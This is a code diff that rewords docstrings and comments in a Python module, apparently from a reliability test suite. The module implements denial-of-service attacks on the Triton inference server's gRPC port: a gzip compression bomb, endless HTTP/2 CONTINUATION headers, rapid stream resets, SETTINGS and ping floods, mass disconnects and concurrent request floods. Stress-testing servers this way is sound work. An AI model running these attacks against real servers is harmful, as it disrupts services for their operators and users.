@@ -1,6 +1,6 @@
-"""Attacks on Triton's gRPC port: bombs, frames and floods.
+"""Attack Triton's gRPC port with compression bombs, frames and floods.
 
-Each takes an AttackRun and returns the number of answers of each kind.
+Each attack takes an AttackRun and returns the number of answers of each kind.
 """
 
 from __future__ import annotations
@@ -18,19 +18,19 @@ from reliability.attacks_http import packed
 from reliability.http2 import END_HEADERS, Connection, frame
 from reliability.impact import AttackRun
 
-_STEPS = 10  # of a request that takes some time
-_SEND_SECONDS = 1.0  # for the server to accept data, or to close the connection
+_STEPS = 10  # solver steps of a request that takes some time
+_SEND_SECONDS = 1.0  # limit until the server accepts data or closes the connection
 
 
 def bomb(run: AttackRun) -> Counter[str]:
-    """Send a mask of `amount` MB, compressed by gzip as gRPC allows."""
+    """Send a mask of `amount` MiB that is compressed with gzip."""
     request = pb.ModelInferRequest(model_name="mini")
     request.inputs.add(name="mask", datatype="UINT8", shape=[run.amount << 20, 1, 1])
     length, varint = run.amount << 20, b""
     while length >= 128:
         varint += bytes([length % 128 + 128])
         length //= 128
-    # The field raw_input_contents of KServe's message has the number 7 and a length.
+    # raw_input_contents of KServe's message is the field 7 with a length.
     prefix = request.SerializeToString() + bytes([7 << 3 | 2]) + varint + bytes([length])
     message = packed(run.amount, "gzip", prefix)
     connection = Connection(run.server.grpc)
@@ -44,7 +44,7 @@ def bomb(run: AttackRun) -> Counter[str]:
 
 
 def endless_head(run: AttackRun) -> Counter[str]:
-    """Send headers of `amount` MB in CONTINUATION frames, without the last frame."""
+    """Send headers of `amount` MB in CONTINUATION frames, but not the last frame."""
     block = http2.header(b"x-header", b"y" * 16000)
     return _send(
         run,
@@ -54,7 +54,7 @@ def endless_head(run: AttackRun) -> Counter[str]:
 
 
 def resets(run: AttackRun) -> Counter[str]:
-    """Open `amount` streams and reset each at once."""
+    """Open `amount` streams and reset each stream at once."""
     block = http2.grpc_headers()
     streams = range(1, 2 * run.amount, 2)
     parts = [
@@ -71,12 +71,12 @@ def pings(run: AttackRun) -> Counter[str]:
 
 
 def settings(run: AttackRun) -> Counter[str]:
-    """Send `amount` frames of settings, each of which requires an acknowledgement."""
+    """Send `amount` SETTINGS frames; the server must acknowledge each frame."""
     return _send(run, b"", [frame(http2.SETTINGS, 0, 0)] * run.amount)
 
 
 def _send(run: AttackRun, first: bytes, parts: list[bytes]) -> Counter[str]:
-    """Send frames without reading the answers; count them, and how the connection ended."""
+    """Send frames without reading answers; return their number and the end of the connection."""
     connection = Connection(run.server.grpc)
     frame_count = 0
     try:
@@ -105,9 +105,10 @@ def _request() -> pb.ModelInferRequest:
 
 
 def leave(run: AttackRun) -> Counter[str]:
-    """Send `amount` requests for a volume, and disconnect while they run and wait.
+    """Send `amount` requests for a volume, and disconnect while they run or wait.
 
-    The ensemble's statistics count what was done for nobody; only attackers call the ensemble.
+    The statistics of the ensemble count the volumes that were made without a client, because only
+    attackers call the ensemble.
     """
     message, before = _request().SerializeToString(), statistics(run.server.grpc)["mini"]
     connections = [Connection(run.server.grpc) for _ in range(run.amount)]
@@ -125,7 +126,7 @@ def leave(run: AttackRun) -> Counter[str]:
 
 
 def flood(run: AttackRun) -> Counter[str]:
-    """Send `amount` requests for a volume at once."""
+    """Send `amount` concurrent requests for a volume."""
     with grpc.insecure_channel(run.server.grpc) as channel:
         infer = rpc.GRPCInferenceServiceStub(channel).ModelInfer
         calls = [infer.future(_request(), timeout=http2.LONGEST) for _ in range(run.amount)]
